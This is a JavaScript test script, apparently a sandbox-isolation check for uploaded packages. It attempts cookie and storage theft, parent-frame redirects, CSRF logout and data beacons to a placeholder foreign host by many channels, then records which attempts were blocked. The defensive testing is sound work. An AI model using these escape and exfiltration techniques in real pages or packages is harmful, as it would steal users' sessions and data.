// What a hostile package tries, in its sandbox. Each attempt returns or resolves to what it got; what throws or never
// answers got nothing. FOREIGN is another host, STUN one that hears telephones; both are told by the page.

"use strict";
const OWN = location.origin;
const text = (answer) => answer.text();
const loaded = (made, place) => new Promise((done, failed) => {
  made.onload = () => done("loaded"); made.onerror = () => failed(new Error("refused"));
  (place || document.body).appendChild(made);
});
const element = (name, values) => Object.assign(document.createElement(name), values);
const deep = (script) => new Promise((done, failed) => {
  addEventListener("message", (event) => (event.data.got ? done(event.data.got) : failed(new Error(event.data.not))), { once: true });
  const code = "(async () => { try { parent.postMessage({ got: String(await (" + script + ")()) || 'empty' }, '*') }"
    + " catch (error) { parent.postMessage({ not: String(error) }, '*') } })()";
  document.body.appendChild(element("iframe", { srcdoc: "<script>" + code + "<" + "/script>" }));
});
const ATTEMPTS = {
  "parent document": () => parent.document.title,
  "parent address": () => parent.location.href,
  "parent variable": () => { parent.stolen = 1; return "written"; },
  "parent storage": () => parent.localStorage.getItem("secret"),
  "top away": () => { top.location = FOREIGN + "/top"; return new Promise(() => {}); },
  "parent away": () => { parent.location.href = FOREIGN + "/parent"; return new Promise(() => {}); },
  "link to top": () => { const link = element("a", { href: FOREIGN + "/link", target: "_top" }); document.body.append(link); link.click(); return new Promise(() => {}); },
  "window": () => window.open(FOREIGN + "/window").name + "opened",
  "cookie": () => document.cookie || Promise.reject(new Error("empty")),
  "cookie set": () => { document.cookie = "planted=1; path=/"; return new Promise(() => {}); },
  "cookie of a frame within": () => deep("() => document.cookie"),
  "storage": () => localStorage.getItem("secret") || Promise.reject(new Error("empty")),
  "storage of a frame within": () => deep("() => localStorage.length"),
  "databases": () => new Promise((done, failed) => { const asked = indexedDB.open("x"); asked.onsuccess = () => done("open"); asked.onerror = () => failed(new Error("no")); }),
  "caches": () => caches.keys(),
  "worker of the site": () => navigator.serviceWorker.register("/paquets/worker.js"),
  "fetch foreign": () => fetch(FOREIGN + "/fetch", { mode: "no-cors" }),
  "fetch foreign from within": () => deep("() => fetch('" + FOREIGN + "/within', { mode: 'no-cors' })"),
  "request foreign": () => new Promise((done, failed) => { const asked = new XMLHttpRequest(); asked.onload = done; asked.onerror = failed; asked.open("GET", FOREIGN + "/xhr"); asked.send(); }),
  "socket": () => new Promise((done, failed) => { const socket = new WebSocket(FOREIGN.replace("http", "ws")); socket.onopen = done; socket.onerror = failed; }),
  "events": () => new Promise((done, failed) => { const source = new EventSource(FOREIGN + "/events"); source.onopen = done; source.onerror = failed; }),
  "beacon": () => (navigator.sendBeacon(FOREIGN + "/beacon", "x"), new Promise(() => {})),
  "image": () => loaded(element("img", { src: FOREIGN + "/image.png" })),
  "script": () => loaded(element("script", { src: FOREIGN + "/script.js" })),
  "style": () => loaded(element("link", { rel: "stylesheet", href: FOREIGN + "/style.css" }), document.head),
  "prefetch": () => loaded(element("link", { rel: "prefetch", href: FOREIGN + "/prefetch" }), document.head),
  "preload": () => loaded(element("link", { rel: "preload", as: "image", href: FOREIGN + "/preload" }), document.head),
  "imported style": () => { document.head.append(element("style", { textContent: "@import '" + FOREIGN + "/import.css';" })); return new Promise(() => {}); },
  "frame foreign": () => { document.body.append(element("iframe", { src: FOREIGN + "/frame" })); return new Promise(() => {}); },
  "form foreign": () => { const form = element("form", { action: FOREIGN + "/form", method: "post", target: "sent" }); document.body.append(element("iframe", { name: "sent" }), form); form.submit(); return new Promise(() => {}); },
  "worker": () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + FOREIGN + "/worker')"]))); return new Promise(() => {}); },
  "telephone": async () => { const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + STUN }] }); call.createDataChannel("x"); await call.setLocalDescription(await call.createOffer()); return new Promise(() => {}); },
  "page of ours": () => fetch(OWN + "/fr/mon-espace", { credentials: "include" }).then(text),
  "health of ours": () => fetch(OWN + "/healthz").then(text),
  "other package": () => fetch(OWN + "/paquets/1.1~a~b/index.html").then(text),
  "write to ours": () => fetch(OWN + "/fr/compte/logout/", { method: "POST", credentials: "include", mode: "no-cors" }),
  "frame of ours": () => { const frame = element("iframe", { src: OWN + "/fr/mon-espace" }); document.body.append(frame); return new Promise((done) => { frame.onload = () => { try { done(frame.contentDocument.title); } catch { } }; }); },
  "form to ours": () => { const form = element("form", { action: OWN + "/fr/compte/logout/", method: "post", target: "sent" }); document.body.append(form); form.submit(); return new Promise(() => {}); },
};
(async () => {
  const outcome = [];
  await Promise.all(Object.entries(ATTEMPTS).map(async ([name, attempt]) => {
    try {
      const late = new Promise((_done, failed) => setTimeout(() => failed(new Error("no answer")), 2500));
      const got = await Promise.race([(async () => attempt())(), late]);
      outcome.push("WENT THROUGH " + name + ": " + got);
    } catch (error) {
      outcome.push("refused " + name);
    }
  }));
  document.title = outcome.sort().join("\n");
  document.getElementById("outcome").textContent = document.title;
  document.getElementById("outcome").dataset.done = outcome.length;
})();
